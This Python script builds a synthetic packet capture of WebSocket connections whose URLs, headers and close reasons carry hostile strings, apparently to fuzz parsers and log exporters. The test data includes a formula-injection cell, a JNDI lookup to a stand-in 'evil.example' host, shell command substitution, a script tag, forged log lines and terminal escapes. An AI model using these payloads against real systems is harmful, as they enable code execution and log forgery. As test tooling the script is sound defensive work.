"""Writes a capture of WebSocket connections in which every text that a stranger can choose is meant to break a format.

Usage: hostile.py FILE.pcap
"""

import base64
import hashlib
import struct
import sys

TEXTS = [
    b'quotes " and \' and ` and \\ and \\" and \\n',
    b"=cmd|' /C calc'!A0",
    b"+1+1",
    b"-1",
    b"-",
    b"(empty)",
    b"@SUM(A1)",
    b"a|b|c=d\\=e|CEF:0|v|p|1|id|name|10|act=x",
    b"LEEF:2.0|v|p|1|id|x09|\tsev=10\tsrc=1.2.3.4",
    b"tab\tin\tit",
    b"<134>1 2026-01-01T00:00:00Z host app - - - forged",
    b"#close\t2026-01-01",
    b'","close_code":4999,"x":"',
    b"\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "right to left \u202e gnp.exe \u2066 \u2069 \u200b \ufeff".encode(),
    "line \u2028 and \u2029 separators, \u0085 and \u009b[31m".encode(),
    b"invalid \xff\xfe\xc0\x80 UTF-8 \xed\xa0\x80",
    b"{{template}} ${jndi:ldap://evil.example/a} %s %n $(id) `id`",
    b"<script>alert(1)</script> <!-- ]]> -->",
    b"*bold* [link](http://evil.example) | cell | @everyone #1",
    "emoji \U0001f980 and \U000e0041 tags".encode(),
    b"x" * 3000,
    b"\x1b" * 1000,
    "\u202e".encode() * 600,
    b'"' * 4000,
    b"y" * 60000,
]

# Beyond what a header may hold (RFC 9110 section 5.5), but a peer may send them.
ONLY_IN_REASONS = [b"two\nlines", b"carriage\r\nreturn", b"nul \x00 byte", b"\n#fields\tx\n", b"\r\n\r\n"]

GUID = b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11"


class Capture:
    """Packets of TCP over IPv4 over Ethernet."""

    def __init__(self):
        self.packets = []
        self.now = 1_790_000_000_000_000

    def add(self, source, target, seq, ack, flags, payload=b""):
        tcp = struct.pack(">HHIIBBHHH", source[1], target[1], seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, 0x50, flags, 65535, 0, 0)
        total = 20 + len(tcp) + len(payload)
        ip = struct.pack(">BBHHHBBH", 0x45, 0, total, 0, 0x4000, 64, 6, 0) + source[0] + target[0]
        self.packets.append((self.now, b"\x02" * 6 + b"\x04" * 6 + b"\x08\x00" + ip + tcp + payload))
        self.now += 1000

    def write(self, path):
        with open(path, "wb") as file:
            file.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 262144, 1))
            for time, packet in self.packets:
                file.write(struct.pack("<IIII", time // 1_000_000, time % 1_000_000, len(packet), len(packet)) + packet)


class Connection:
    """Both ends of a TCP connection, each of which sends in turn."""

    def __init__(self, capture, port):
        self.capture = capture
        self.client, self.server = (bytes([10, 9, 8, 7]), port), (bytes([203, 0, 113, 5]), 8080)
        self.seq = {True: 1000, False: 9000}
        capture.add(self.client, self.server, 999, 0, 0x02)
        capture.add(self.server, self.client, 8999, 1000, 0x12)
        self.send(True, b"")

    def send(self, by_client, payload, flags=0x10):
        ends = (self.client, self.server) if by_client else (self.server, self.client)
        for start in range(0, max(len(payload), 1), 1400):
            part = payload[start : start + 1400]
            self.capture.add(*ends, self.seq[by_client], self.seq[not by_client], flags, part)
            self.seq[by_client] += len(part)

    def fin(self, by_client):
        self.send(by_client, b"", 0x11)
        self.seq[by_client] += 1


def request(path, **headers):
    lines = [b"GET " + path + b" HTTP/1.1"]
    fields = {
        "Host": b"ws.example.com",
        "Upgrade": b"websocket",
        "Connection": b"Upgrade",
        "Sec-WebSocket-Key": base64.b64encode(b"0123456789abcdef"),
        "Sec-WebSocket-Version": b"13",
    }
    fields.update({name.replace("_", "-"): value for name, value in headers.items()})
    lines += [name.encode() + b": " + value for name, value in fields.items()]
    return b"\r\n".join(lines) + b"\r\n\r\n"


def accepted(**headers):
    accept = base64.b64encode(hashlib.sha1(base64.b64encode(b"0123456789abcdef") + GUID).digest())
    fields = {"Upgrade": b"websocket", "Connection": b"Upgrade", "Sec-WebSocket-Accept": accept}
    fields.update({name.replace("_", "-"): value for name, value in headers.items()})
    lines = [b"HTTP/1.1 101 Switching Protocols"]
    lines += [name.encode() + b": " + value for name, value in fields.items()]
    return b"\r\n".join(lines) + b"\r\n\r\n"


def close(code, reason, masked):
    payload = struct.pack(">H", code) + reason[:123]
    if masked:
        mask = b"\x01\x02\x03\x04"
        payload = mask + bytes(byte ^ mask[place % 4] for place, byte in enumerate(payload))
    return bytes([0x88, (0x80 if masked else 0) | (len(payload) - (4 if masked else 0))]) + payload


def main():
    capture = Capture()
    port = 20000
    for text in TEXTS + ONLY_IN_REASONS:
        port += 1
        connection = Connection(capture, port)
        in_header = b"x" if text in ONLY_IN_REASONS else text
        target = b"/" + in_header.replace(b" ", b"%20") + b"?q=" + in_header.replace(b" ", b"+")
        connection.send(
            True,
            request(
                target[:30000],
                Host=in_header[:2000],
                Origin=in_header[:8000],
                User_Agent=in_header,
                Sec_WebSocket_Protocol=b"chat, " + in_header[:4000],
            ),
        )
        if port % 3:
            connection.send(False, accepted(Server=in_header, Via=in_header[:4000]))
            connection.send(True, close(4000 + port % 7, text, True))
            connection.send(False, close(4000 + port % 7, text, False))
        else:
            body = text[:500]
            head = b"HTTP/1.1 503 No\r\nServer: " + in_header + b"\r\nLocation: " + in_header[:4000]
            head += b"\r\nRetry-After: " + in_header[:100] + b"\r\nContent-Length: " + str(len(body)).encode()
            connection.send(False, head + b"\r\n\r\n" + body)
        connection.fin(False)
        connection.fin(True)
    capture.write(sys.argv[1])


if __name__ == "__main__":
    main()
